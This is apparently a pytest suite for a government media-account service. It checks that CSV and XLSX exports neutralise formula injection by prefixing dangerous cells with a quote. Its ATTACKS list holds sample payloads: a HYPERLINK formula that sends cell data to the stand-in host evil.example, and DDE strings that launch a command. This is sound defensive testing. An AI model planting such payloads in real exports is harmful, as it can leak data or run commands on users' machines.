"""CSV and XLSX exports cannot carry a formula (CSV injection, OWASP): the ledger export
(REST; the account service has no gRPC export) on SQLite and PostgreSQL, and the shared
helper on plain data (the petition service's SLA statistics CSV)."""
from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from govmedia_kit.exports import csv_text, safe_cell
from services.petition.supervision import stats_csv
from tests.helpers import client, login

ATTACKS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]


def test_cells_that_could_start_a_formula_are_neutralised():
    for attack in ATTACKS:
        assert safe_cell(attack) == "'" + attack
    for harmless in ("示范县发布", "a=b", "1-2", "", "'=already"):
        assert safe_cell(harmless) == harmless
    assert safe_cell(-5) == -5 and safe_cell(None) is None  # numbers are not text
    text = csv_text(["name", "=header"], [[a, 1] for a in ATTACKS])
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows[0] == ["name", "'=header"]
    assert [r[0] for r in rows[1:]] == ["'" + a for a in ATTACKS]


def test_petition_statistics_csv_neutralises_names():
    from services.petition.supervision import STAT_FIELDS

    row = {f: 0 for f in STAT_FIELDS}
    row.update(group="u1", name="=cmd|' /C calc'!A0")
    text = stats_csv([row])
    assert text.startswith("\ufeff")
    lines = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert lines[1][:2] == ["u1", "'=cmd|' /C calc'!A0"]


def test_the_ledger_export_carries_no_formula(stack_factory, db_backend):
    stack = stack_factory(db_backend, only=("account",))
    ops = client(stack, "account", login(stack, "ops"))
    unit = ops.get("/v1/units", params={"name": "省政府办公厅"}).json()["items"][0]
    made = ops.post("/v1/accounts", json={
        "unit_id": unit["id"], "platform": "weibo", "name": f"{unit['name']}发布", "handle": ATTACKS[0],
        "opened_on": "2026-03-02", "responsible": {"principal": ATTACKS[1], "deputy": ATTACKS[3],
                                                   "chief_editor": ATTACKS[2]},
        "delivery": {"mode": "stream"}})
    assert made.status_code == 201, made.text
    account_id = made.json()["id"]

    raw = ops.get("/v1/ledger")
    assert raw.status_code == 200 and raw.content.startswith(b"\xef\xbb\xbf")
    [row] = [r for r in csv.DictReader(io.StringIO(raw.content.decode("utf-8-sig"))) if r["account_id"] == account_id]
    assert (row["handle"], row["principal"], row["deputy"], row["chief_editor"]) == (
        "'" + ATTACKS[0], "'" + ATTACKS[1], "'" + ATTACKS[3], "'" + ATTACKS[2])
    assert row["name"] == f"{unit['name']}发布"  # ordinary text untouched

    xlsx = ops.get("/v1/ledger", params={"format": "xlsx"})
    assert xlsx.status_code == 200
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    rows = list(sheet.iter_rows(min_row=2))
    [cells] = [r for r in rows if r[0].value == account_id]
    for cell, typed in zip((cells[3], cells[10], cells[11], cells[12]), (ATTACKS[0], ATTACKS[1], ATTACKS[3], ATTACKS[2])):
        # the value exactly as typed, a string (never a formula), marked as text-that-looks-like-a-formula
        assert cell.value == typed and cell.data_type == "s" and cell.quotePrefix, (cell.value, cell.data_type)
    assert not any(c.data_type == "f" for r in rows for c in r)
